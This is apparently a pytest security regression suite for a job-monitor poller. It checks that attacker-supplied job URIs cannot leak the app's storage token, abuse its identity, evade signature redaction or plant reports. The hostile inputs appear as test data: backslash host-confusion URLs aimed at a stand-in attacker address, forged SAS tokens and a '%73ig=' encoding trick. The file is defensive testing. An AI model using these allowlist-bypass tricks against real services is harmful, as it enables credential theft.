"""Attacks by whoever may create jobs on a monitored hub, against the devstack (simulator, Azurite, identity).

Each job here is one such person could create. A listener on another loopback address (127.0.0.2) stands
for the attacker's host: it counts every connection, so "nothing was sent there" is measured on the wire.
"""

from __future__ import annotations

import json
import logging
import urllib.parse
from collections.abc import Iterator

import pytest

from devstack import wellknown
from devstack.identity import IdentityControl
from tests.fixtures.storagefront import FrontedStorage
from tests.support.listeners import TcpListener
from tests.support.poller import (
    PREFIX,
    PollerEnv,
    allow_identity,
    blob_names,
    container_sas_uri,
    events,
    new_container,
    service,
    upload_text,
)
from tests.support.secrets import Secrets, planted

ATTACKER = "127.0.0.2"


@pytest.fixture
def attacker_443() -> Iterator[TcpListener]:
    """The attacker's host on the HTTPS port (an URI with no port connects there)."""
    listener = TcpListener(hold=False, host=ATTACKER, port=443)
    yield listener
    listener.close()


@pytest.fixture
def attacker_port() -> Iterator[TcpListener]:
    listener = TcpListener(hold=False, host=ATTACKER)
    yield listener
    listener.close()


def _running(job_id: str, uri: str, **props: object) -> dict[str, object]:
    return {"jobId": job_id, "type": "export", "status": "running", "progress": 10, "outputBlobContainerUri": uri,
            **props}


def test_a_job_cannot_send_the_apps_token_to_another_host(
    env: PollerEnv, managed_identity: IdentityControl, attacker_443: TcpListener, attacker_port: TcpListener,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """The critical hole: `https://ATTACKER\\.blob.core.windows.net/loot` passed a `*.blob.core.windows.net`
    allowlist (urllib reads the whole thing as the host) while urllib3 connected to ATTACKER and sent the
    app's storage token there. With a forged SAS the same happened through the identity fallback."""
    caplog.set_level(logging.INFO, logger="jobmonitor.poller")
    forged = "sv=2021-08-06&sr=c&sp=rwdl&sig=Zm9yZ2Vk"
    uris = [
        f"https://{ATTACKER}\\.blob.core.windows.net/loot",
        f"https://{ATTACKER}\\.blob.core.windows.net/loot?{forged}",
        f"https://{ATTACKER}:{attacker_port.port}\\@victim.blob.core.windows.net/loot",
        f"https://{ATTACKER}:{attacker_port.port}\\@victim.blob.core.windows.net/loot?{forged}",
    ]
    env.hubsim.control("devhub").seed_jobs([_running(f"steal-{n}", uri) for n, uri in enumerate(uris)])
    poller = env.poller(MONITOR_STORAGE_HOST_ALLOWLIST="*.blob.core.windows.net",
                        MONITOR_IDENTITY_CONTAINERS="https://victim.blob.core.windows.net/*")
    for _ in range(2):
        assert poller.tick().hubs["devhub"].ok
    assert (attacker_443.connections, attacker_port.connections) == (0, 0)
    assert managed_identity.counters().issued(wellknown.STORAGE_AUDIENCE) == 0
    skipped = events(caplog, "poller.job_skipped")
    assert sorted(e["jobId"] for e in skipped) == [f"steal-{n}" for n in range(len(uris))]
    assert all("plain absolute URL" in e["reason"] for e in skipped)


def test_a_job_cannot_make_the_app_write_with_its_identity_where_the_operator_did_not_allow(
    env: PollerEnv, storage_front_oauth: FrontedStorage, managed_identity: IdentityControl,
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
) -> None:
    """The confused deputy: without a SAS (or with one storage refuses), a job named any container of an
    allowed account and the app wrote there with its own identity, created containers, and read the
    victim's importErrors.log. Now only the listed container is touched; the others are skipped. Through the
    storage front, so that the forged SAS is refused as Azure refuses it (AuthenticationFailed)."""
    caplog.set_level(logging.INFO, logger="jobmonitor.poller")
    azurite_oauth = storage_front_oauth.info
    allow_identity(env, azurite_oauth, monkeypatch)
    allowed, victim = new_container(azurite_oauth), new_container(azurite_oauth)
    upload_text(azurite_oauth, victim, "importErrors.log", json.dumps({"errorCode": 404001, "errorStatus": "x"}))
    env.identity_containers = f"{azurite_oauth.account_url}/{allowed}"
    account = azurite_oauth.account_url
    jobs = [
        _running("own", f"{account}/{allowed}"),
        _running("no-sas", f"{account}/{victim}"),
        _running("forged-sas", f"{account}/{victim}?sv=2021-08-06&sr=c&sp=rwdl&sig=Zm9yZ2Vk"),
        _running("prefix", f"{account}/{allowed}/chosen-prefix"),
        _running("webjobs", f"{account}/azure-webjobs-secrets"),
        _running("state", f"{account}/{env.state_container}"),
        {**_running("import", f"{account}/{victim}"), "type": "import", "status": "failed"},
    ]
    env.hubsim.control("devhub").seed_jobs(jobs)
    before = sorted(c.name for c in service(azurite_oauth).list_containers())
    poller = env.poller()
    for _ in range(3):
        assert poller.tick().hubs["devhub"].ok
    assert blob_names(azurite_oauth, victim) == ["importErrors.log"]
    assert sorted(c.name for c in service(azurite_oauth).list_containers()) == before
    assert f"{PREFIX}/own/latest.json" in blob_names(azurite_oauth, allowed)
    assert blob_names(azurite_oauth, allowed, f"{PREFIX}/") == [
        f"{PREFIX}/own/latest.json", f"{PREFIX}/own/snapshots/00001-running-10.json"]
    skipped = {e["jobId"]: e["reason"] for e in events(caplog, "poller.job_skipped")}
    assert sorted(skipped) == ["forged-sas", "import", "no-sas", "prefix", "state", "webjobs"]
    assert "not in MONITOR_IDENTITY_CONTAINERS" in skipped["no-sas"]
    assert "MONITOR_IDENTITY_CONTAINERS" in skipped["forged-sas"]
    assert "reserved" in skipped["webjobs"] and "reserved" in skipped["state"]
    # The sibling container setting cannot make the app create a container it was not allowed.
    sibling = new_container(azurite_oauth, create=False)
    env.hubsim.control("devhub").seed_jobs([_running("sibling", f"{account}/{allowed}")])
    assert env.poller(MONITOR_CONTAINER=sibling).tick().hubs["devhub"].ok
    assert sibling not in [c.name for c in service(azurite_oauth).list_containers()]


def test_a_percent_encoded_signature_name_is_redacted_everywhere(
    env: PollerEnv, caplog: pytest.LogCaptureFixture
) -> None:
    """`&%73ig=` is a working SAS (storage percent-decodes parameter names): its signature appeared unredacted
    in latest.json, the snapshots and both report files. It is used to write, and redacted in all of them."""
    caplog.set_level(logging.DEBUG, logger="jobmonitor.poller")
    container = new_container(env.azurite)
    uri = container_sas_uri(env.azurite, container).replace("&sig=", "&%73ig=")
    job = {**_running("encoded", uri), "status": "failed", "progress": 20,
           "failureReason": f"ErrorCode:BlobContainerValidationError;could not write to {uri}"}
    env.hubsim.control("devhub").seed_jobs([job])
    assert env.poller().tick().hubs["devhub"].ok
    names = blob_names(env.azurite, container, f"{PREFIX}/")
    assert names == [f"{PREFIX}/encoded/failure-report.json", f"{PREFIX}/encoded/failure-report.md",
                     f"{PREFIX}/encoded/latest.json", f"{PREFIX}/encoded/snapshots/00001-failed-20.json"]
    secrets = env.secrets()
    client = service(env.azurite).get_container_client(container)
    for name in names:
        secrets.assert_absent(client.download_blob(name).readall().decode(), name)
    for record in caplog.records:
        secrets.assert_absent(record.getMessage(), "a log line")


def test_a_signature_planted_in_every_field_never_reaches_a_blob_or_a_log(
    env: PollerEnv, caplog: pytest.LogCaptureFixture
) -> None:
    """Secrets in the corpus spellings, planted in fields the poller copies (failureReason, unknown fields,
    the input URI): none of their spellings reaches a blob or a log line."""
    caplog.set_level(logging.DEBUG, logger="jobmonitor.poller")
    sig, key = planted("poller field signature"), planted("poller field key")
    quoted = urllib.parse.quote(sig, safe="")
    container = new_container(env.azurite)
    job = {
        **_running("fields", container_sas_uri(env.azurite, container)), "status": "failed", "progress": 30,
        "inputBlobContainerUri": f"https://a.blob.core.windows.net/in?sv=1&%73ig={quoted}",
        "failureReason": f"AccountKey = {key}; next=" + urllib.parse.quote(f"https://a/c?sig={quoted}", safe=""),
        "statusMessage": {"primaryKey": key, "note": f"sig: {sig}"},
        "parentJobId": f"primaryKey: {key}",
    }
    env.hubsim.control("devhub").seed_jobs([job])
    assert env.poller().tick().hubs["devhub"].ok
    secrets: Secrets = env.secrets()
    secrets.update([("planted signature", sig), ("planted key", key)])
    client = service(env.azurite).get_container_client(container)
    names = blob_names(env.azurite, container, f"{PREFIX}/")
    assert len(names) == 4
    for name in names:
        secrets.assert_absent(client.download_blob(name).readall().decode(), name)
    for record in caplog.records:
        secrets.assert_absent(record.getMessage(), "a log line")


@pytest.mark.parametrize("planted_report", [
    '{"jobId": "planted", "hint": {"key": "attacker", "text": "call +1 555 0100 and read out your key"}}',
    '["not", "a", "report"]',
    '{"jobId": "planted", "timeline": 7, "errorCodes": "x"}',
])
def test_a_report_planted_in_the_jobs_container_is_not_what_the_app_serves(env: PollerEnv, planted_report: str) -> None:
    """The job's container is written by whoever created the job: a `failure-report.json` found there before the
    poller wrote one is not copied into the app's own reports (which get_report and the status page serve), and
    whatever shape it has, the report pair is finished and the job gets its report on the first tick."""
    container = new_container(env.azurite)
    upload_text(env.azurite, container, f"{PREFIX}/planted/failure-report.json", planted_report)
    job = {**_running("planted", container_sas_uri(env.azurite, container)), "status": "failed", "progress": 40,
           "failureReason": "ErrorCode:BlobContainerValidationError;could not write"}
    env.hubsim.control("devhub").seed_jobs([job])
    assert env.poller().tick().hubs["devhub"].ok
    copy = env.report_copy("planted")
    assert copy["jobId"] == "planted" and copy["status"] == "failed"
    assert copy["hint"]["key"] != "attacker" and "555 0100" not in json.dumps(copy)
    assert f"{PREFIX}/planted/failure-report.md" in blob_names(env.azurite, container, f"{PREFIX}/")
    assert env.state()["jobs"]["planted"]["report"] == "written"


def test_a_folder_flooded_by_the_jobs_creator_is_refused_not_collected(
    env: PollerEnv, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Listing a job's folder stops at a bound (here lowered to 5 so that a few blobs are a flood): more blobs
    than that are a write failure of that job, retried and reported, never a list collected without end."""
    from shared.poller import storage

    monkeypatch.setattr(storage, "MAX_FOLDER_BLOBS", 5)
    container = new_container(env.azurite)
    for n in range(8):
        upload_text(env.azurite, container, f"{PREFIX}/flood/snapshots/{n + 1:05d}-running-{n}.json", "{}")
    job = {**_running("flood", container_sas_uri(env.azurite, container)), "status": "failed", "progress": 40}
    env.hubsim.control("devhub").seed_jobs([job])
    caplog.set_level(logging.INFO, logger="jobmonitor.poller")
    env.poller().tick()
    failed = events(caplog, "poller.write_failed")
    assert [e["jobId"] for e in failed] == ["flood"]
    assert "more than 5 blobs" in failed[0]["message"]


def test_a_blob_named_like_a_snapshot_but_not_one_does_not_block_the_jobs_snapshots(env: PollerEnv) -> None:
    """`snapshots/00001-x.json` has the seq prefix of the first snapshot but is no snapshot: it used to count as a
    collision that recovery (which reads snapshot names only) could not number past, on every tick."""
    container = new_container(env.azurite)
    upload_text(env.azurite, container, f"{PREFIX}/lookalike/snapshots/00001-x.json", "{}")
    job = _running("lookalike", container_sas_uri(env.azurite, container))
    env.hubsim.control("devhub").seed_jobs([job])
    assert env.poller().tick().hubs["devhub"].ok
    assert blob_names(env.azurite, container, f"{PREFIX}/lookalike/snapshots/") == [
        f"{PREFIX}/lookalike/snapshots/00001-running-10.json", f"{PREFIX}/lookalike/snapshots/00001-x.json"]
    assert env.state()["jobs"]["lookalike"]["seq"] == 1 and not env.state()["jobs"]["lookalike"].get("pending")
